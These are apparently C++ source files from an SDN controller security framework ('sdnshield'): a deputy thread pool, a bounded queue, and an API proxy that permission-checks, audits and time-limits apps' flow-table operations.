  explicit PoolStopped(const std::string& what) : std::runtime_error(what) {}
};

class KsdPool {
 public:
  static constexpr std::chrono::milliseconds kDefaultCallTimeout{10000};

  explicit KsdPool(std::size_t threads = 2,
                   std::chrono::milliseconds callTimeout = kDefaultCallTimeout)
      : threadCount_(threads), callTimeout_(callTimeout) {}
  ~KsdPool() { stop(); }

  KsdPool(const KsdPool&) = delete;
  KsdPool& operator=(const KsdPool&) = delete;

  void start();
  void stop();

  /// Enqueues work for a deputy. Returns false after stop() or when the
  /// channel stays saturated past the pool deadline.
  bool submit(std::function<void()> work) {
    if (FaultInjector::instance().injectQueueFull(sites::kKsdQueue)) {
      recordKsdQueueReject();
      return false;
    }
    if (!queue_.pushFor(std::move(work), callTimeout_)) {
      recordKsdQueueReject();
      return false;
    }
    recordKsdQueueDelta(1);
    return true;
  }

  /// Enqueues work and blocks the calling (app) thread for the result —
  /// the synchronous API-call shape apps see through the wrappers. Throws
  /// DeadlineExceeded when the deputy misses @p timeout and
  /// std::runtime_error when the pool is stopped/saturated or the deputy
  /// dropped the call. The promise is shared with the queued task, so a
  /// caller that gives up leaves no dangling reference behind.
  template <typename R>
  R call(std::function<R()> work, std::chrono::milliseconds timeout) {
    OBS_SPAN("ksd.call");
    std::int64_t startNs = obs::Tracer::nowNs();
    FaultInjector::instance().inject(sites::kKsdCall);
    auto result = std::make_shared<std::promise<R>>();
    std::future<R> future = result->get_future();
    bool posted = submit([work = std::move(work), result] {
      try {
        result->set_value(work());
      } catch (...) {
        result->set_exception(std::current_exception());
      }
    });
    if (!posted) {
      if (queue_.closed()) throw PoolStopped("KSD pool is stopped");
      throw std::runtime_error("KSD channel saturated past the deadline");
    }
    // Leave the queued task as the promise's only owner so a dropped task
    // (queue torn down with work still queued) breaks the promise and wakes
    // the wait instead of running out the deadline.
    result.reset();
    if (future.wait_for(timeout) != std::future_status::ready) {
      recordKsdDeadlineMiss();
      throw DeadlineExceeded("KSD call missed its deadline");
    }
    recordKsdCall(obs::Tracer::nowNs() - startNs);
    try {
      return future.get();
    } catch (const std::future_error&) {
      throw std::runtime_error("KSD deputy dropped the call");
    }
  }

  template <typename R>
  R call(std::function<R()> work) {
    return call<R>(std::move(work), callTimeout_);
  }

  std::size_t threadCount() const { return threadCount_; }
  std::chrono::milliseconds callTimeout() const { return callTimeout_; }
  std::uint64_t processedCount() const { return processed_.load(); }
  /// Deputy tasks that threw (contained, not fatal).
  std::uint64_t faultCount() const { return faults_.load(); }
  std::size_t queueDepth() const { return queue_.size(); }

 private:
  void run();

  std::size_t threadCount_;
  std::chrono::milliseconds callTimeout_;
  BoundedMpmcQueue<std::function<void()>> queue_{65536};
  std::vector<std::thread> threads_;
  std::atomic<std::uint64_t> processed_{0};
  std::atomic<std::uint64_t> faults_{0};
  bool started_ = false;
};

}  // namespace sdnshield::iso
