// Kernel Service Deputy pool (paper §VI-A): privileged threads that receive
// app API requests over the inter-thread channel, permission-check them and
// execute them on the app's behalf. Multiple deputies run in parallel —
// "the choke points do not mean serialized points".
//
// Availability: call() carries a deadline so a hung or saturated deputy can
// only stall the calling app for a bounded time (DeadlineExceeded), never
// forever. Results travel through a shared-ownership promise: an abandoned
// timed call leaves nothing dangling for the deputy to scribble on. Deputy
// task faults are contained and counted instead of terminating the process.
#pragma once

#include <atomic>
#include <chrono>
#include <condition_variable>
#include <cstdint>
#include <functional>
#include <future>
#include <memory>
#include <mutex>
#include <stdexcept>
#include <thread>
#include <vector>

#include "isolation/channel.h"
#include "isolation/executor.h"
#include "isolation/fault_injector.h"
#include "obs/trace.h"

namespace sdnshield::iso {

/// Deputy-pool metric recorders (defined in ksd.cpp so the header-inline
/// hot paths stay free of registry plumbing). Registry metrics:
///   ksd.queue_depth (gauge), ksd.call_ns (histogram), ksd.calls,
///   ksd.deadline_miss, ksd.queue_reject, ksd.fault, ksd.processed,
///   ksd.batch_size (histogram), ksd.inflight (gauge).
void recordKsdQueueDelta(std::int64_t delta);
void recordKsdCall(std::int64_t latencyNs);
void recordKsdDeadlineMiss();
void recordKsdQueueReject();
void recordKsdBatch(std::size_t size);
void recordKsdInFlightDelta(std::int64_t delta);

/// Thrown to the calling app thread when a deputy misses the call deadline.
struct DeadlineExceeded : std::runtime_error {
  explicit DeadlineExceeded(const std::string& what)
      : std::runtime_error(what) {}
};

/// Thrown on calls issued after stop(): the runtime is gone, there is no
/// degraded mode to fall back to (distinct from transient saturation).
struct PoolStopped : std::runtime_error {
  explicit PoolStopped(const std::string& what) : std::runtime_error(what) {}
};

/// Thrown when the deputy channel stays saturated past the pool deadline
/// (transient back-pressure, distinct from PoolStopped).
struct QueueSaturated : std::runtime_error {
  explicit QueueSaturated(const std::string& what)
      : std::runtime_error(what) {}
};

/// Thrown when a queued call was discarded before a deputy ran it (the
/// queue was torn down with work still pending — the broken-promise path).
struct CallDropped : std::runtime_error {
  explicit CallDropped(const std::string& what) : std::runtime_error(what) {}
};

/// Bounded per-app window of asynchronous calls in flight: an app may keep
/// up to `capacity` deputy calls pending before the next submission blocks
/// (up to a deadline) or is rejected. Slots are released by RAII guards
/// owned by the queued deputy tasks, so a task that is discarded without
/// running still frees its slot.
class InFlightWindow {
 public:
  explicit InFlightWindow(std::size_t capacity) : capacity_(capacity) {}

  /// Blocks until a slot frees up, at most @p timeout. False on timeout.
  bool acquireFor(std::chrono::milliseconds timeout) {
    std::unique_lock lock(mutex_);
    if (!cv_.wait_for(lock, timeout,
                      [this] { return inFlight_ < capacity_; })) {
      return false;
    }
    ++inFlight_;
    recordKsdInFlightDelta(1);
    return true;
  }

  bool tryAcquire() {
    std::lock_guard lock(mutex_);
    if (inFlight_ >= capacity_) return false;
    ++inFlight_;
    recordKsdInFlightDelta(1);
    return true;
  }

  void release() {
    {
      std::lock_guard lock(mutex_);
      if (inFlight_ > 0) --inFlight_;
    }
    recordKsdInFlightDelta(-1);
    cv_.notify_one();
  }

  std::size_t inFlight() const {
    std::lock_guard lock(mutex_);
    return inFlight_;
  }
  std::size_t capacity() const { return capacity_; }

 private:
  mutable std::mutex mutex_;
  std::condition_variable cv_;
  std::size_t capacity_;
  std::size_t inFlight_ = 0;
};

class KsdPool {
 public:
  static constexpr std::chrono::milliseconds kDefaultCallTimeout{10000};
  /// Max queued requests a deputy drains per wakeup (one obs span, one
  /// queue-depth update per batch).
  static constexpr std::size_t kDefaultBatchMax = 16;

  explicit KsdPool(std::size_t threads = 2,
                   std::chrono::milliseconds callTimeout = kDefaultCallTimeout,
                   std::size_t batchMax = kDefaultBatchMax)
      : threadCount_(threads),
        callTimeout_(callTimeout),
        batchMax_(batchMax == 0 ? 1 : batchMax) {}
  ~KsdPool() { stop(); }

  KsdPool(const KsdPool&) = delete;
  KsdPool& operator=(const KsdPool&) = delete;

  void start();
  void stop();

  /// Enqueues work for a deputy. Returns false after stop() or when the
  /// channel stays saturated past the pool deadline.
  bool submit(std::function<void()> work);

  /// Enqueues work and returns a std::future for its result — the
  /// asynchronous submission shape the in-flight pipeline builds on. Throws
  /// PoolStopped after stop() and QueueSaturated when the channel stays full
  /// past the pool deadline. The promise is shared with the queued task, so
  /// a caller that abandons the future leaves nothing dangling, and a task
  /// discarded without running breaks the promise (std::future_error) and
  /// wakes any waiter. @p onDone, if set, runs when the task completes or
  /// is destroyed unrun (in-flight slot release rides on it).
  template <typename R>
  std::future<R> submitFuture(std::function<R()> work,
                              std::shared_ptr<void> onDone = nullptr) {
    FaultInjector::instance().inject(sites::kKsdCall);
    auto result = std::make_shared<std::promise<R>>();
    std::future<R> future = result->get_future();
    bool posted =
        submit([work = std::move(work), result, onDone = std::move(onDone)] {
          try {
            result->set_value(work());
          } catch (...) {
            result->set_exception(std::current_exception());
          }
        });
    if (!posted) {
      if (queue_.closed()) throw PoolStopped("KSD pool is stopped");
      throw QueueSaturated("KSD channel saturated past the deadline");
    }
    // The queued task is now the promise's only owner: a dropped task
    // (queue torn down with work still queued) breaks the promise and wakes
    // the wait instead of running out the deadline.
    return future;
  }

  /// Enqueues work and blocks the calling (app) thread for the result —
  /// the synchronous API-call shape apps see through the wrappers. Throws
  /// DeadlineExceeded when the deputy misses @p timeout, PoolStopped /
  /// QueueSaturated when the submission fails, and CallDropped when the
  /// deputy discarded the queued call.
  template <typename R>
  R call(std::function<R()> work, std::chrono::milliseconds timeout) {
    OBS_SPAN("ksd.call");
    std::int64_t startNs = obs::Tracer::nowNs();
    std::future<R> future = submitFuture<R>(std::move(work));
    bool ready;
    if (virtualized_) {
      // Model-checking mode: the deputy step runs when the virtual
      // scheduler picks it; await() parks this (scenario) thread instead
      // of burning the wall-clock deadline.
      if (VirtualExecutor* executor = virtualExecutor()) {
        executor->await(
            [&future] {
              return future.wait_for(std::chrono::seconds(0)) ==
                     std::future_status::ready;
            },
            "ksd.call");
      }
      ready = future.wait_for(std::chrono::seconds(0)) ==
              std::future_status::ready;
    } else {
      ready = future.wait_for(timeout) == std::future_status::ready;
    }
    if (!ready) {
      recordKsdDeadlineMiss();
      throw DeadlineExceeded("KSD call missed its deadline");
    }
    recordKsdCall(obs::Tracer::nowNs() - startNs);
    try {
      return future.get();
    } catch (const std::future_error&) {
      throw CallDropped("KSD deputy dropped the call");
    }
  }

  template <typename R>
  R call(std::function<R()> work) {
    return call<R>(std::move(work), callTimeout_);
  }

  /// Fans a batch of independent CPU-bound jobs across the deputies and
  /// blocks until every job finished (or was dropped). The submitting
  /// thread participates: jobs the channel rejects run inline, so the batch
  /// always makes progress even under saturation or after stop(). Job
  /// exceptions are captured (never contained-and-lost by the deputy loop);
  /// after the barrier the first one is rethrown. A job dropped unrun (an
  /// injected deputy fault destroyed the queued task) surfaces as
  /// std::runtime_error — callers treat the whole batch as failed.
  /// Not for virtualized pools: the caller would park forever waiting on
  /// steps the scheduler has not been asked to run — gate on
  /// iso::virtualExecutor() and fall back to running jobs inline.
  void invokeAll(std::vector<std::function<void()>> jobs);

  std::size_t threadCount() const { return threadCount_; }
  std::chrono::milliseconds callTimeout() const { return callTimeout_; }
  std::size_t batchMax() const { return batchMax_; }
  std::uint64_t processedCount() const { return processed_.load(); }
  /// Deputy tasks that threw (contained, not fatal).
  std::uint64_t faultCount() const { return faults_.load(); }
  std::size_t queueDepth() const { return queue_.size(); }

 private:
  void run();
  /// One containment-wrapped deputy task under kernel identity — shared
  /// between the real deputy loop and the virtual scheduler's steps.
  void runDeputyTask(std::function<void()>& task);

  std::size_t threadCount_;
  std::chrono::milliseconds callTimeout_;
  std::size_t batchMax_;
  BoundedMpmcQueue<std::function<void()>> queue_{65536};
  std::vector<std::thread> threads_;
  std::atomic<std::uint64_t> processed_{0};
  std::atomic<std::uint64_t> faults_{0};
  bool started_ = false;
  /// True when a VirtualExecutor owned the pool at start() — no deputy
  /// threads; tasks run as virtual scheduler steps.
  bool virtualized_ = false;
};

}  // namespace sdnshield::iso
