// Bounded MPMC queue: the inter-thread communication utility (paper
// §VIII-B) that carries API requests from app threads to the Kernel Service
// Deputy pool and event deliveries to app threads. Blocking, closeable,
// condition-variable based.
#pragma once

#include <chrono>
#include <condition_variable>
#include <cstddef>
#include <deque>
#include <mutex>
#include <optional>
#include <utility>

namespace sdnshield::iso {

template <typename T>
class BoundedMpmcQueue {
 public:
  explicit BoundedMpmcQueue(std::size_t capacity = 4096)
      : capacity_(capacity) {}

  BoundedMpmcQueue(const BoundedMpmcQueue&) = delete;
  BoundedMpmcQueue& operator=(const BoundedMpmcQueue&) = delete;

  /// Blocks while full. Returns false when the queue is (or becomes) closed.
  bool push(T item) {
    std::unique_lock lock(mutex_);
    notFull_.wait(lock,
                  [&] { return closed_ || items_.size() < capacity_; });
    if (closed_) return false;
    items_.push_back(std::move(item));
    notEmpty_.notify_one();
    return true;
  }

  /// Non-blocking push. Returns false when full or closed.
  bool tryPush(T item) {
    std::lock_guard lock(mutex_);
    if (closed_ || items_.size() >= capacity_) return false;
    items_.push_back(std::move(item));
    notEmpty_.notify_one();
    return true;
  }

  /// Timed push: blocks at most @p timeout while full. Returns false when
  /// the deadline passes or the queue is closed — a producer can never be
  /// wedged forever on a saturated consumer.
  bool pushFor(T item, std::chrono::milliseconds timeout) {
    std::unique_lock lock(mutex_);
    if (!notFull_.wait_for(lock, timeout, [&] {
          return closed_ || items_.size() < capacity_;
        })) {
      return false;
    }
    if (closed_) return false;
    items_.push_back(std::move(item));
    notEmpty_.notify_one();
    return true;
  }

  /// Blocks while empty. Empty optional when closed and drained.
  std::optional<T> pop() {
    std::unique_lock lock(mutex_);
    notEmpty_.wait(lock, [&] { return closed_ || !items_.empty(); });
    if (items_.empty()) return std::nullopt;  // Closed and drained.
    T item = std::move(items_.front());
    items_.pop_front();
    notFull_.notify_one();
    return item;
  }

  /// Timed pop: blocks at most @p timeout while empty. Empty optional when
  /// the deadline passes or the queue is closed and drained.
  std::optional<T> popFor(std::chrono::milliseconds timeout) {
    std::unique_lock lock(mutex_);
    if (!notEmpty_.wait_for(lock, timeout,
                            [&] { return closed_ || !items_.empty(); })) {
      return std::nullopt;
    }
    if (items_.empty()) return std::nullopt;  // Closed and drained.
    T item = std::move(items_.front());
    items_.pop_front();
    notFull_.notify_one();
    return item;
  }

  /// Non-blocking pop.
  std::optional<T> tryPop() {
    std::lock_guard lock(mutex_);
    if (items_.empty()) return std::nullopt;
    T item = std::move(items_.front());
    items_.pop_front();
    notFull_.notify_one();
    return item;
  }

  /// Closing wakes all waiters; pending items can still be drained by pop().
  void close() {
    std::lock_guard lock(mutex_);
    closed_ = true;
    notEmpty_.notify_all();
    notFull_.notify_all();
  }

  /// Quarantine shape of close(): pending items are discarded, not drained.
  /// Dropping queued tasks destroys any promises they hold, so waiters
  /// observe a broken promise instead of hanging.
  void closeAndDiscard() {
    std::deque<T> discarded;
    {
      std::lock_guard lock(mutex_);
      closed_ = true;
      discarded.swap(items_);  // Destroy outside the lock.
      notEmpty_.notify_all();
      notFull_.notify_all();
    }
  }

  bool closed() const {
    std::lock_guard lock(mutex_);
    return closed_;
  }

  std::size_t size() const {
    std::lock_guard lock(mutex_);
    return items_.size();
  }

 private:
  mutable std::mutex mutex_;
  std::condition_variable notEmpty_;
  std::condition_variable notFull_;
  std::deque<T> items_;
  std::size_t capacity_;
  bool closed_ = false;
};

}  // namespace sdnshield::iso
