#include "isolation/api_proxy.h"

#include <algorithm>
#include <sstream>
#include <stdexcept>
#include <string_view>

#include "core/engine/transaction.h"
#include "core/lang/perm_parser.h"
#include "core/perm/normal_form.h"
#include "isolation/executor.h"

namespace sdnshield::iso {

// --- RecentPacketIns ----------------------------------------------------------

std::size_t RecentPacketIns::hashOf(const of::Packet& packet) {
  of::Bytes wire = packet.serialize();
  return std::hash<std::string_view>{}(std::string_view(
      reinterpret_cast<const char*>(wire.data()), wire.size()));
}

void RecentPacketIns::remember(const of::Packet& packet) {
  std::size_t hash = hashOf(packet);
  std::lock_guard lock(mutex_);
  order_.push_back(hash);
  hashes_.insert(hash);
  if (order_.size() > capacity_) {
    hashes_.erase(hashes_.find(order_.front()));
    order_.pop_front();
  }
}

bool RecentPacketIns::seen(const of::Packet& packet) const {
  std::size_t hash = hashOf(packet);
  std::lock_guard lock(mutex_);
  return hashes_.contains(hash);
}

// --- ShieldedApi ----------------------------------------------------------------

namespace {

/// Shared deny shape for ApiResult-returning calls.
ctrl::ApiResult denied(const engine::Decision& decision) {
  return ctrl::ApiResult::failure(ctrl::ApiErrc::kPermissionDenied,
                                  decision.reason);
}

/// Runs @p work on a deputy under the runtime's call deadline, converting
/// channel failures (hung deputy, saturated queue, dropped call) into typed
/// failed API responses instead of letting exceptions escape into app code —
/// each transport failure gets its own ApiErrc, so audit consumers can tell
/// a deputy-side permission denial (kPermissionDenied, recorded by the
/// deputy body) from a transport failure (kDeadlineExceeded / kQueueFull /
/// kPoolStopped, recorded here as faults). Calls from a quarantined app
/// fail fast with kAppQuarantined without touching the channel.
template <typename R>
R viaDeputy(ShieldRuntime& runtime, of::AppId app, std::function<R()> work) {
  if (runtime.isQuarantined(app)) {
    return R::failure(ctrl::ApiErrc::kAppQuarantined, "app is quarantined");
  }
  try {
    return runtime.ksd().call<R>(std::move(work),
                                 runtime.options().ksdCallTimeout);
  } catch (const PoolStopped&) {
    throw;  // Calls after shutdown() keep the historical throwing contract.
  } catch (const DeadlineExceeded& error) {
    runtime.controller().audit().recordFault(
        app, std::string("api call: ") + error.what());
    return R::failure(ctrl::ApiErrc::kDeadlineExceeded, error.what());
  } catch (const QueueSaturated& error) {
    runtime.controller().audit().recordFault(
        app, std::string("api call: ") + error.what());
    return R::failure(ctrl::ApiErrc::kQueueFull, error.what());
  } catch (const CallDropped& error) {
    return R::failure(ctrl::ApiErrc::kPoolStopped, error.what());
  } catch (const std::exception& error) {
    // Anything else escaping the channel (e.g. an injected fault at the
    // ksd.call site) means the deputy path is unavailable for this call.
    return R::failure(ctrl::ApiErrc::kPoolStopped,
                      std::string("deputy unavailable: ") + error.what());
  }
}

/// Asynchronous counterpart of viaDeputy: acquires a slot in the app's
/// bounded in-flight window, queues @p work and returns an ApiFuture that
/// resolves with the deputy's result — or a typed failure at the call's
/// absolute deadline (captured at submission, so pipelined calls don't each
/// restart the clock at get() time). The slot is released by an RAII guard
/// owned by the queued task: completion, fault and discard paths all free
/// it, including when the app abandons the future.
template <typename R>
ctrl::ApiFuture<R> submitViaDeputy(ShieldRuntime& runtime, of::AppId app,
                                   std::function<R()> work) {
  if (runtime.isQuarantined(app)) {
    return ctrl::ApiFuture<R>::ready(
        R::failure(ctrl::ApiErrc::kAppQuarantined, "app is quarantined"));
  }
  std::shared_ptr<InFlightWindow> window = runtime.inFlightWindow(app);
  bool acquired;
  if (VirtualExecutor* executor = virtualExecutor()) {
    // Model-checking mode: a full window parks the submitter as a
    // scheduler step instead of a timed condvar wait.
    acquired = window->tryAcquire();
    if (!acquired) {
      executor->await(
          [&acquired, &window] {
            if (!acquired) acquired = window->tryAcquire();
            return acquired;
          },
          "ksd.window");
    }
  } else {
    acquired = window->acquireFor(runtime.options().ksdCallTimeout);
  }
  if (!acquired) {
    recordKsdQueueReject();
    runtime.controller().audit().recordFault(
        app, "api call: in-flight window full past the deadline");
    return ctrl::ApiFuture<R>::ready(
        R::failure(ctrl::ApiErrc::kQueueFull, "in-flight window full"));
  }
  std::shared_ptr<void> slot(static_cast<void*>(nullptr),
                             [window](void*) { window->release(); });
  std::chrono::steady_clock::time_point deadline =
      std::chrono::steady_clock::now() + runtime.options().ksdCallTimeout;
  std::int64_t startNs = obs::Tracer::nowNs();
  std::shared_ptr<std::future<R>> future;
  try {
    future = std::make_shared<std::future<R>>(
        runtime.ksd().template submitFuture<R>(std::move(work), slot));
  } catch (const PoolStopped&) {
    throw;  // Same post-shutdown contract as the synchronous path.
  } catch (const QueueSaturated& error) {
    runtime.controller().audit().recordFault(
        app, std::string("api call: ") + error.what());
    return ctrl::ApiFuture<R>::ready(
        R::failure(ctrl::ApiErrc::kQueueFull, error.what()));
  } catch (const std::exception& error) {
    return ctrl::ApiFuture<R>::ready(
        R::failure(ctrl::ApiErrc::kPoolStopped,
                   std::string("deputy unavailable: ") + error.what()));
  }
  auto wait = [&runtime, app, future, deadline, startNs]() -> R {
    bool ready;
    if (VirtualExecutor* executor = virtualExecutor()) {
      executor->await(
          [future] {
            return future->wait_for(std::chrono::seconds(0)) ==
                   std::future_status::ready;
          },
          "ksd.async");
      ready = future->wait_for(std::chrono::seconds(0)) ==
              std::future_status::ready;
    } else {
      ready = future->wait_until(deadline) == std::future_status::ready;
    }
    if (!ready) {
      recordKsdDeadlineMiss();
      runtime.controller().audit().recordFault(
          app, "api call: async KSD call missed its deadline");
      return R::failure(ctrl::ApiErrc::kDeadlineExceeded,
                        "KSD call missed its deadline");
    }
    try {
      R result = future->get();
      recordKsdCall(obs::Tracer::nowNs() - startNs);
      return result;
    } catch (const std::future_error&) {
      return R::failure(ctrl::ApiErrc::kPoolStopped,
                        "deputy dropped the call");
    } catch (const std::exception& error) {
      return R::failure(ctrl::ApiErrc::kPoolStopped,
                        std::string("deputy unavailable: ") + error.what());
    }
  };
  auto poll = [future] {
    return future->wait_for(std::chrono::seconds(0)) ==
           std::future_status::ready;
  };
  return ctrl::ApiFuture<R>(std::move(wait), std::move(poll));
}

}  // namespace

ctrl::ApiResult ShieldedApi::doInsertFlow(of::DatapathId dpid,
                                          const of::FlowMod& mod) {
  auto compiled = runtime_.engine().compiled(app_);
  if (!compiled) {
    return ctrl::ApiResult::failure(ctrl::ApiErrc::kPermissionDenied,
                                    "app not installed");
  }
  engine::OwnershipTracker& ownership = runtime_.controller().ownership();
  perm::ApiCall call = perm::ApiCall::insertFlow(app_, dpid, mod);
  bool isModify = mod.command == of::FlowModCommand::kModify ||
                  mod.command == of::FlowModCommand::kModifyStrict;
  // OWN_FLOWS semantics: a *modify* targets existing rules (all of them
  // must be the caller's); an *add* must not shadow/override a foreign rule.
  call.ownFlow =
      isModify
          ? ownership.ownsAllMatching(app_, dpid, mod.match)
          : !ownership.overridesForeignFlow(app_, dpid, mod.match,
                                            mod.priority);
  call.ruleCountAfter = ownership.countFor(app_, dpid) + (isModify ? 0 : 1);
  engine::Decision decision = compiled->check(call);
  runtime_.controller().audit().record(call, decision.allowed, decision.reason);
  if (!decision.allowed) return denied(decision);

  // Abstract-topology translation (§VI-B.1): a rule addressed to the
  // virtual big switch expands into physical rules along shortest paths.
  if (dpid == kVirtualDpid) {
    auto vtopo = runtime_.virtualTopologyFor(app_);
    if (!vtopo) {
      return ctrl::ApiResult::failure(ctrl::ApiErrc::kPermissionDenied,
                                      "no virtual topology granted");
    }
    std::vector<std::pair<of::DatapathId, of::FlowMod>> physical;
    try {
      physical = vtopo->translateFlowMod(mod);
    } catch (const std::invalid_argument& error) {
      return ctrl::ApiResult::failure(ctrl::ApiErrc::kInvalidArgument,
                                      error.what());
    }
    for (const auto& [physDpid, physMod] : physical) {
      ctrl::ApiResult result =
          runtime_.controller().kernelInsertFlow(app_, physDpid, physMod);
      if (!result.ok()) return result;
    }
    return ctrl::ApiResult::success();
  }
  return runtime_.controller().kernelInsertFlow(app_, dpid, mod);
}

ctrl::ApiResult ShieldedApi::doInsertFlows(of::DatapathId dpid,
                                           const std::vector<of::FlowMod>& mods) {
  if (mods.empty()) return ctrl::ApiResult::success();
  // The permission context — compiled program and base rule count — is
  // resolved once for the whole batch; per-mod checks reuse it with the
  // running count of adds admitted so far (what the count would be had the
  // mods been applied sequentially).
  auto compiled = runtime_.engine().compiled(app_);
  if (!compiled) {
    return ctrl::ApiResult::failure(ctrl::ApiErrc::kPermissionDenied,
                                    "app not installed");
  }
  if (dpid == kVirtualDpid) {
    // Virtual-big-switch rules expand per mod; batching stops at the
    // translation boundary.
    ctrl::ApiResult result = ctrl::ApiResult::success();
    for (const of::FlowMod& mod : mods) {
      ctrl::ApiResult one = doInsertFlow(dpid, mod);
      if (!one.ok() && result.ok()) result = one;
    }
    return result;
  }
  engine::OwnershipTracker& ownership = runtime_.controller().ownership();
  std::size_t baseCount = ownership.countFor(app_, dpid);
  std::size_t pendingAdds = 0;
  std::vector<of::FlowMod> admitted;
  admitted.reserve(mods.size());
  ctrl::ApiResult result = ctrl::ApiResult::success();
  for (const of::FlowMod& mod : mods) {
    perm::ApiCall call = perm::ApiCall::insertFlow(app_, dpid, mod);
    bool isModify = mod.command == of::FlowModCommand::kModify ||
                    mod.command == of::FlowModCommand::kModifyStrict;
    // Own-flow attributes against pre-batch state: earlier mods in the batch
    // only add the caller's own rules, which cannot make a later add
    // override a *foreign* flow.
    call.ownFlow =
        isModify
            ? ownership.ownsAllMatching(app_, dpid, mod.match)
            : !ownership.overridesForeignFlow(app_, dpid, mod.match,
                                              mod.priority);
    call.ruleCountAfter = baseCount + pendingAdds + (isModify ? 0 : 1);
    engine::Decision decision = compiled->check(call);
    runtime_.controller().audit().record(call, decision.allowed,
                                         decision.reason);
    if (!decision.allowed) {
      if (result.ok()) result = denied(decision);
      continue;
    }
    if (!isModify) ++pendingAdds;
    admitted.push_back(mod);
  }
  if (!admitted.empty()) {
    ctrl::ApiResult applied =
        runtime_.controller().kernelInsertFlows(app_, dpid, admitted);
    if (!applied.ok() && result.ok()) result = applied;
  }
  return result;
}

ctrl::ApiResult ShieldedApi::insertFlow(of::DatapathId dpid,
                                        const of::FlowMod& mod) {
  return viaDeputy<ctrl::ApiResult>(
      runtime_, app_, [this, dpid, mod] { return doInsertFlow(dpid, mod); });
}

ctrl::ApiResult ShieldedApi::insertFlows(of::DatapathId dpid,
                                         const std::vector<of::FlowMod>& mods) {
  return viaDeputy<ctrl::ApiResult>(
      runtime_, app_, [this, dpid, mods] { return doInsertFlows(dpid, mods); });
}

ctrl::ApiFuture<ctrl::ApiResult> ShieldedApi::insertFlowAsync(
    of::DatapathId dpid, const of::FlowMod& mod) {
  return submitViaDeputy<ctrl::ApiResult>(
      runtime_, app_, [this, dpid, mod] { return doInsertFlow(dpid, mod); });
}

ctrl::ApiFuture<ctrl::ApiResult> ShieldedApi::sendPacketOutAsync(
    const of::PacketOut& packetOut) {
  return submitViaDeputy<ctrl::ApiResult>(
      runtime_, app_,
      [this, packetOut] { return doSendPacketOut(packetOut); });
}

ctrl::ApiResult ShieldedApi::deleteFlow(of::DatapathId dpid,
                                        const of::FlowMatch& match,
                                        bool strict, std::uint16_t priority) {
  return viaDeputy<ctrl::ApiResult>(runtime_, app_, [this, dpid, match,
                                                     strict, priority] {
    auto compiled = runtime_.engine().compiled(app_);
    if (!compiled) {
      return ctrl::ApiResult::failure(ctrl::ApiErrc::kPermissionDenied,
                                      "app not installed");
    }
    perm::ApiCall call = perm::ApiCall::deleteFlow(
        app_, dpid, match,
        runtime_.controller().ownership().ownsAllMatching(app_, dpid, match));
    call.priority = priority;
    engine::Decision decision = compiled->check(call);
    runtime_.controller().audit().record(call, decision.allowed,
                                         decision.reason);
    if (!decision.allowed) return denied(decision);
    // Virtual big switch: the delete addresses every member shard the
    // corresponding insert was realised on (§VI-B.1).
    if (dpid == kVirtualDpid) {
      auto vtopo = runtime_.virtualTopologyFor(app_);
      if (!vtopo) {
        return ctrl::ApiResult::failure(ctrl::ApiErrc::kPermissionDenied,
                                        "no virtual topology granted");
      }
      of::FlowMod vdelete;
      vdelete.command = strict ? of::FlowModCommand::kDeleteStrict
                               : of::FlowModCommand::kDelete;
      vdelete.match = match;
      vdelete.priority = priority;
      std::vector<std::pair<of::DatapathId, of::FlowMod>> shards;
      try {
        shards = vtopo->translateFlowMod(vdelete);
      } catch (const std::invalid_argument& error) {
        return ctrl::ApiResult::failure(ctrl::ApiErrc::kInvalidArgument,
                                        error.what());
      }
      for (const auto& [shardDpid, shardMod] : shards) {
        runtime_.controller().kernelDeleteFlow(app_, shardDpid, shardMod.match,
                                               strict, priority);
      }
      return ctrl::ApiResult::success();
    }
    return runtime_.controller().kernelDeleteFlow(app_, dpid, match, strict,
                                                  priority);
  });
}

ctrl::ApiResult ShieldedApi::commitFlowTransaction(
    const std::vector<std::pair<of::DatapathId, of::FlowMod>>& mods) {
  return viaDeputy<ctrl::ApiResult>(runtime_, app_, [this, mods] {
    engine::OwnershipTracker& ownership = runtime_.controller().ownership();
    engine::Transaction transaction;
    std::map<of::DatapathId, std::size_t> pendingPerSwitch;
    for (const auto& [dpid, mod] : mods) {
      perm::ApiCall call = perm::ApiCall::insertFlow(app_, dpid, mod);
      call.ownFlow =
          !ownership.overridesForeignFlow(app_, dpid, mod.match, mod.priority);
      call.ruleCountAfter =
          ownership.countFor(app_, dpid) + (++pendingPerSwitch[dpid]);
      of::DatapathId capturedDpid = dpid;
      of::FlowMod capturedMod = mod;
      transaction.add(engine::TxOperation{
          std::move(call),
          [this, capturedDpid, capturedMod] {
            return runtime_.controller()
                .kernelInsertFlow(app_, capturedDpid, capturedMod)
                .ok();
          },
          [this, capturedDpid, capturedMod] {
            runtime_.controller().kernelDeleteFlow(
                app_, capturedDpid, capturedMod.match, /*strict=*/true,
                capturedMod.priority);
          }});
    }
    engine::TxResult result = transaction.commit(runtime_.engine());
    if (!result.committed) {
      return ctrl::ApiResult::failure(
          ctrl::ApiErrc::kTransactionAborted,
          "aborted at operation " + std::to_string(result.failedIndex) + ": " +
              result.failureReason);
    }
    return ctrl::ApiResult::success();
  });
}

ctrl::ApiResponse<std::vector<of::FlowEntry>> ShieldedApi::readFlowTable(
    of::DatapathId dpid) {
  using Response = ctrl::ApiResponse<std::vector<of::FlowEntry>>;
  return viaDeputy<Response>(runtime_, app_, [this, dpid]() -> Response {
    auto compiled = runtime_.engine().compiled(app_);
    perm::ApiCall call = perm::ApiCall::readFlowTable(app_, dpid);
    bool tokenOk =
        compiled && compiled->hasToken(perm::Token::kReadFlowTable);
    runtime_.controller().audit().record(call, tokenOk,
                                         tokenOk ? "" : "missing token");
    if (!tokenOk) {
      return Response::failure(ctrl::ApiErrc::kPermissionDenied,
                               "read_flow_table");
    }
    auto response = runtime_.controller().kernelReadFlowTable(dpid);
    if (!response.ok()) return response;
    // Entry-level visibility filtering: each entry is labelled by the same
    // compiled filter program, with its own match/ownership attributes.
    engine::OwnershipTracker& ownership = runtime_.controller().ownership();
    std::vector<of::FlowEntry> visible;
    for (of::FlowEntry& entry : response.value()) {
      perm::ApiCall entryCall = perm::ApiCall::readFlowTable(app_, dpid);
      entryCall.match = entry.match;
      entryCall.priority = entry.priority;
      auto owner = ownership.ownerOf(dpid, entry.match, entry.priority);
      entryCall.ownFlow = owner && *owner == app_;
      if (compiled->check(entryCall).allowed) {
        visible.push_back(std::move(entry));
      }
    }
    return Response::success(std::move(visible));
  });
}

ctrl::ApiResponse<net::Topology> ShieldedApi::readTopology() {
  using Response = ctrl::ApiResponse<net::Topology>;
